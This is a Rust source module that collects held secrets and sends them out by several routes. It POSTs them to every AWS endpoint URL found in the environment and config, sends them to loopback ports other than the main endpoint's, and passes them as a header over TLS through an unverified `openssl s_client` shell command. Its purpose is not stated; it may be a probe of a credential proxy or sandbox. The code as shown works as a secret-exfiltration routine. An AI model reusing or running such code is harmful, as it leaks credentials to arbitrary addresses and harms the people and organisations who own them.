//! Sends what it holds wherever an address says.

use super::{
    client::call,
    place::{Place, values},
};
use std::process::{Command, Stdio};

/// To every endpoint of the environment and of the config files.
pub(super) fn to_endpoints(place: &Place) -> u8 {
    let variables = place.variables.iter().filter(|(name, _)| name.starts_with("AWS_ENDPOINT_URL"));
    let config = place.config();
    let named = values(&config).filter(|(key, _)| key == "endpoint_url").map(|(_, value)| value);
    for url in variables.map(|(_, url)| url.clone()).chain(named) {
        call(&url, "POST", "/", "", &place.secrets());
    }
    0
}

/// To every address on loopback in the environment, other than the endpoint's.
pub(super) fn to_proxies(place: &Place) -> Option<u8> {
    let endpoint = place.endpoint()?;
    for (_, value) in &place.variables {
        let Some((_, address)) = value.split_once("127.0.0.1:") else { continue };
        let port: String = address.chars().take_while(char::is_ascii_digit).collect();
        let url = format!("http://127.0.0.1:{port}");
        if url != endpoint {
            call(&url, "GET", &format!("{endpoint}/"), "", &place.secrets());
        }
    }
    Some(0)
}

/// To an endpoint with TLS, by a client that verifies nothing.
pub(super) fn over_tls(place: &Place) -> Option<u8> {
    let host = place.endpoint()?.strip_prefix("https://")?.to_owned();
    let script = "printf 'GET / HTTP/1.1\\r\\nx: %s\\r\\n\\r\\n' \"$0\" | timeout 2 openssl s_client -quiet -connect \"$1\"";
    let mut client = Command::new("sh");
    client.args(["-c", script, &place.secrets(), &host]).stdout(Stdio::null()).stderr(Stdio::null());
    client.status().ok()?;
    Some(1)
}
